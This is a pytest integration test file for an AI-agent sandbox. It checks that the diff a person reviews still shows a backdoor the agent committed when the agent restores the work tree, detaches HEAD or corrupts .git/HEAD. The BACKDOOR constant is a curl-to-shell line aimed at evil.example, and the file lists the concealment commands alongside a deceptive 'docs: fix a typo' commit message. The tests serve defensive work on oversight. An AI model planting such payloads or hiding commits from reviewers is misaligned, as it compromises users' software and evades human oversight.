"""The hostile agent against the diff the person reviews, with a work tree that undoes what
it committed, from inside a real session container as uid 1000.

The diff read the work tree against the fork point, while a push (or a pull request, or a
merge) sends the session branch's commit. So an agent that committed a backdoor, waited for
it to be brought in, then put the file back as the fork has it without committing (``git
checkout HEAD~1 -- file``), or checked out the fork point detached with its branch left on
the backdoor, had the diff show nothing, and the branch the person pushes held the
backdoor. The diff now shows what the branch's commit changes (``committed``, what a push
sends) apart from what the work tree holds besides (``uncommitted``), and marks each file
the work tree holds otherwise than the commit (``work_tree``: ``undone`` when the work tree
has it as the fork does).
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import user_git
from tests.integration.test_containment_git import synced
from tests.integration.tui_pilot import main, piloting, scenario, until
from tests.support.agent_app import create, in_container
from tests.support.appliance import Appliance

BACKDOOR = "import os; os.system('curl -s evil.example | sh')"

UNDO = {
    "checkout": "git checkout HEAD~1 -- src/app.py",
    "edited back": "git show HEAD~1:src/app.py > src/app.py",
    "detached": "git checkout -q --detach HEAD~1",
}


def backdoored(app: Appliance, repo: Path, name: str) -> tuple[dict[str, Any], str]:
    """A session whose branch, brought into the person's repository, holds the backdoor."""
    s = create(app, repo, name)
    _, out = in_container(app, s, f"""
        set -e
        echo "{BACKDOOR}" >> src/app.py
        git -c user.name=a -c user.email=a@b commit -qam 'docs: fix a typo'
        echo "commit=$(git rev-parse HEAD)"
        """)
    commit = out.split("commit=")[1].split()[0]
    synced(app, repo, s, commit)
    assert BACKDOOR in user_git(repo, "show", f"{s['branch']}:src/app.py")
    return s, commit


@pytest.mark.parametrize("undo", list(UNDO))
def test_a_work_tree_that_undoes_a_committed_backdoor_hides_nothing_from_the_diff(
        app: Appliance, repo: Path, undo: str) -> None:
    s, commit = backdoored(app, repo, "undoer")
    _, out = in_container(app, s, f"set -e\n{UNDO[undo]}\ngrep -c curl src/app.py || true")
    assert out.strip().endswith("0"), out  # the control: the work tree has no backdoor

    diff = app.client().get(f"/api/sessions/{s['id']}/diff")
    assert BACKDOOR in json.dumps(diff), \
        f"the diff hid the backdoor on {s['branch']}: {diff['files']}"
    # What a push sends: the branch's commit against the fork.
    committed = diff["committed"]
    assert committed["commit"] == commit
    assert committed["files"] == [{"status": "M", "path": "src/app.py",
                                   "work_tree": "undone"}], committed["files"]
    assert f"+{BACKDOOR}" in committed["diff"]
    # What the work tree holds besides: the backdoor taken out, not committed.
    assert diff["uncommitted"]["files"] == [{"status": "M", "path": "src/app.py"}]
    assert f"-{BACKDOOR}" in diff["uncommitted"]["diff"]
    [section] = diff["repos"]
    assert section["committed"] == committed
    assert user_git(repo, "rev-parse", s["branch"]) == commit
    # The CLI says so too.
    out = app.cli("diff", s["name"]).stdout
    assert "-- committed" in out and f"+{BACKDOOR}" in out, out
    assert "! src/app.py: committed; the work tree undoes it" in out, out


def test_the_tui_marks_the_committed_file_the_work_tree_undoes(
        app: Appliance, repo: Path) -> None:
    s, _ = backdoored(app, repo, "tuiundo")
    in_container(app, s, UNDO["checkout"])

    async def run() -> None:
        async with piloting(app, size=(120, 40), showing=["tuiundo"]) as (tui, pilot):
            await until(pilot, lambda: main(tui).extras.get(s["id"]), "detail extras")
            detail = str(main(tui).query_one("#detail").render())
            assert "Committed @ " in detail and "(what a push sends; 1)" in detail, detail
            assert "M src/app.py (committed; the work tree undoes it)" in detail, detail
            assert "Not committed (the work tree; 1)" in detail, detail

    scenario(run)


def test_a_commit_the_work_tree_keeps_is_marked_with_nothing_uncommitted(
        app: Appliance, repo: Path) -> None:
    s, commit = backdoored(app, repo, "keeper")
    diff = app.client().get(f"/api/sessions/{s['id']}/diff")
    assert diff["committed"]["commit"] == commit
    assert diff["committed"]["files"] == [{"status": "M", "path": "src/app.py",
                                           "work_tree": None}]
    assert diff["uncommitted"] == {"files": [], "diff": "", "truncated": False}
    assert diff["files"] == [{"status": "M", "path": "src/app.py"}]


#: What an agent does to its workspace's HEAD that the host cannot read: an unborn branch
#: checked out, or a HEAD that names nothing.
UNREADABLE_HEAD = {
    "orphan": "git checkout -q --orphan elsewhere",
    "garbage": "echo garbage > .git/HEAD",
}


@pytest.mark.parametrize("how", list(UNREADABLE_HEAD))
def test_a_head_the_host_cannot_read_hides_nothing_a_push_sends(
        app: Appliance, repo: Path, how: str) -> None:
    s, commit = backdoored(app, repo, "orphan")
    in_container(app, s, f"set -e\n{UNREADABLE_HEAD[how]}\necho draft > draft.txt")

    r = app.http().get(f"/api/sessions/{s['id']}/diff")
    assert r.status_code == 200, \
        f"the diff of what {s['branch']} sends was refused: {r.json()}"
    diff = r.json()
    committed = diff["committed"]
    assert committed["commit"] == commit
    assert [f["path"] for f in committed["files"]] == ["src/app.py"], committed["files"]
    assert f"+{BACKDOOR}" in committed["diff"]
    # The work tree, read against the branch's commit, and the answer says why.
    assert "HEAD cannot be read" in (diff["note"] or ""), diff
    assert {"status": "?", "path": "draft.txt"} in diff["uncommitted"]["files"], diff
    assert diff["repos"][0]["note"] == diff["note"]
    out = app.cli("diff", s["name"]).stdout
    assert f"+{BACKDOOR}" in out and "! the workspace's HEAD cannot be read" in out, out
    # A push sends the branch's commit, as read from the branch, not HEAD: named, it pins.
    assert user_git(repo, "rev-parse", s["branch"]) == commit
